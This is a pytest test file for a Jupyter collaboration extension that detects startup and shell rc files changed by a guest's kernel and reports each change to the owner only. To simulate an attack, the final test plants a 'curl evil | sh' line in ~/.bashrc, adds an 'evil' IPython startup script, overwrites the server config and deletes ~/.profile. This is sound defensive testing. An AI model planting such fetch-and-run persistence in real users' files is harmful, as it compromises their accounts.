"""Startup files a guest's code changed are shown to the owner (issue 13, finding 4).

The scan and its diff on their own, the watch's bookkeeping of who had run
access, and a real server: bob's kernel writes ``~/.jupyter/jupyter_server_config.py``
and an IPython startup file, changes ``~/.bashrc`` and removes ``~/.profile``;
``GET /api/rtc-presence/startup-changes`` shows alice each change with bob
named, and refuses everyone else.
"""

from __future__ import annotations

import logging
import os
import sys
from pathlib import Path

import pytest

from rtc_presence.processes import TrackedKernels
from rtc_presence.pytest_plugin import RTCServer
from rtc_presence.startupfiles import StartupWatch, diff, locations, scan
from rtc_presence.testing.kernelclient import KernelChannel


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    home = tmp_path / "somebody"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    for name in ("JUPYTER_CONFIG_DIR", "JUPYTER_DATA_DIR", "IPYTHONDIR", "PYTHONUSERBASE"):
        monkeypatch.delenv(name, raising=False)
    return home


def test_locations_follow_the_home_of_now(home: Path) -> None:
    roots = {str(loc.root) for loc in locations()}
    assert str(home / ".jupyter") in roots
    assert str(home / ".ipython") in roots
    assert str(home) in roots  # the shell rc files
    assert str(Path(sys.prefix) / "etc" / "jupyter") in roots
    version = f"python{sys.version_info[0]}.{sys.version_info[1]}"
    assert str(home / ".local" / "lib" / version / "site-packages") in roots


def _write(path: Path, text: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return path


def test_scan_and_diff(home: Path) -> None:
    config = _write(home / ".jupyter" / "jupyter_server_config.py", "c = 1\n")
    _write(home / ".jupyter" / "lab" / "workspaces" / "default.jupyterlab-workspace", "{}")
    startup = _write(home / ".ipython" / "profile_default" / "startup" / "00-a.py", "x = 1\n")
    _write(home / ".ipython" / "profile_default" / "history.sqlite", "")  # not startup
    bashrc = _write(home / ".bashrc", "# rc\n")
    before = scan()
    assert {str(config), str(startup), str(bashrc)} <= before.keys()
    assert not any("workspaces" in p or "history" in p for p in before)
    assert before[str(bashrc)].sha256 is not None

    # Same size, same mtime, other bytes: the hash tells.
    stat = bashrc.stat()
    bashrc.write_text("# RC\n")
    os.utime(bashrc, ns=(stat.st_atime_ns, stat.st_mtime_ns))
    startup.unlink()
    added = _write(home / ".zshrc", "evil\n")
    changes = {(path, kind) for path, kind, _, _ in diff(before, scan())}
    assert changes == {
        (str(bashrc), "modified"),
        (str(startup), "removed"),
        (str(added), "added"),
    }
    assert len(scan(max_files=2)) == 2


async def test_watch_names_the_guests_with_run_access(home: Path) -> None:
    watch = StartupWatch(logging.getLogger("test"), linger=0.1, store=None)
    assert await watch.check() == []  # nobody with run access yet: no baseline
    watch.admitted("carol", "edit")
    assert watch.watching_since is None
    watch.admitted("bob", "run")
    await watch.settled()
    _write(home / ".jupyter" / "jupyter_server_config.py", "evil\n")
    (found,) = await watch.check()
    assert (found.change, found.guests) == ("added", ("bob",))
    watch.left("bob")
    await watch.settled()
    assert watch.guests == {}
    _write(home / ".profile", "later\n")
    (later,) = await watch.check()
    assert later.guests == ()  # found while no guest had run access
    model = watch.model()
    assert [c["change"] for c in model["changes"]] == ["added", "added"]
    assert model["changes"][0]["after"]["size"] == 5
    assert model["watching_since"].endswith("Z")


async def test_the_record_survives_a_restart_and_is_bounded(
    home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    store = tmp_path / "data" / "startup-watch.json"
    log = logging.getLogger("test")
    first = StartupWatch(log, store=store)
    first.admitted("bob", "run")
    await first.settled()
    _write(home / ".jupyter" / "jupyter_server_config.py", "evil\n")
    assert len(await first.check()) == 1
    # The server stops; while none runs, the file changes again; the next server
    # starts from the record, and its first check shows it.
    _write(home / ".jupyter" / "jupyter_server_config.py", "evil, grown\n")
    second = StartupWatch(log, store=store)
    assert second.watching_since == first.watching_since
    (meanwhile,) = await second.check()
    assert (meanwhile.change, meanwhile.guests) == ("modified", ())
    model = second.model()
    assert [(c["change"], c["guests"]) for c in model["changes"]] == [
        ("added", ["bob"]),
        ("modified", []),
    ]
    # At most MAX_CHANGES kept; the rest counted.
    monkeypatch.setattr("rtc_presence.startupfiles.MAX_CHANGES", 3)
    for name in ("a", "b", "c"):
        _write(home / ".jupyter" / f"{name}.json", "{}")
    await second.check()
    assert len(second.model()["changes"]) == 3
    assert second.model()["dropped"] == 2
    # A record that is not one: a fresh watch, said once in the log.
    store.write_text("{not json")
    assert StartupWatch(log, store=store).watching_since is None
    assert "not a startup watch record" in caplog.text


# ---------------------------------------------------------------- a real server


@pytest.fixture
def served(rtc_server: RTCServer) -> RTCServer:
    # The extension hooks the kernel manager when it starts (app.py).
    assert isinstance(rtc_server.app.kernel_manager, TrackedKernels)
    return rtc_server


async def test_changes_from_a_guests_kernel_are_shown_to_the_owner(served: RTCServer) -> None:
    home = Path.home()
    bashrc = _write(home / ".bashrc", "# alice's rc\n")
    profile = _write(home / ".profile", "# alice's profile\n")

    resp = await served.request("bob", "POST", "api/kernels", body={"name": "python3"})
    assert resp.status_code == 201, resp.text
    await served.state.startup.settled()  # the baseline, taken when bob came with run access
    channel = await KernelChannel.open(served.ws_url, resp.json()["id"], served.auth("bob"))
    out = await channel.execute(
        "from pathlib import Path\n"
        "home = Path.home()\n"
        "(home / '.jupyter').mkdir(exist_ok=True)\n"
        "(home / '.jupyter' / 'jupyter_server_config.py').write_text('print(\"owned\")')\n"
        "startup = home / '.ipython' / 'profile_default' / 'startup'\n"
        "startup.mkdir(parents=True, exist_ok=True)\n"
        "(startup / '00-evil.py').write_text('import os')\n"
        "with open(home / '.bashrc', 'a') as f: f.write('curl evil | sh\\n')\n"
        "(home / '.profile').unlink()\n"
        "print(home)"
    )
    assert out["status"] == "ok" and out["stdout"].strip() == str(home), out
    await channel.close()

    resp = await served.request("alice", "GET", "api/rtc-presence/startup-changes")
    assert resp.status_code == 200, resp.text
    body = resp.json()
    changes = {(c["path"], c["change"]): c for c in body["changes"]}
    assert set(changes) == {
        (str(home / ".jupyter" / "jupyter_server_config.py"), "added"),
        (str(home / ".ipython" / "profile_default" / "startup" / "00-evil.py"), "added"),
        (str(bashrc), "modified"),
        (str(profile), "removed"),
    }
    for change in changes.values():
        assert change["guests"] == ["bob"]
        assert change["detected_at"].endswith("Z")
    assert (
        changes[(str(bashrc), "modified")]["before"]["size"]
        < (changes[(str(bashrc), "modified")]["after"]["size"])
    )

    for who in ("bob", "carol"):
        refused = await served.request(who, "GET", "api/rtc-presence/startup-changes")
        assert refused.status_code == 403
        assert "owner" in refused.json()["message"]

    # bob revoked: his kernel ends; later changes no longer name him (carol,
    # whose request above was at run level, still has run access).
    served.state.startup.linger = 0.1
    served.state.gate.evict("bob", by="alice")
    await served.state.startup.settled()
    _write(home / ".zshrc", "# alice, later\n")
    resp = await served.request("alice", "GET", "api/rtc-presence/startup-changes")
    (later,) = [c for c in resp.json()["changes"] if c["path"].endswith(".zshrc")]
    assert later["guests"] == ["carol"]
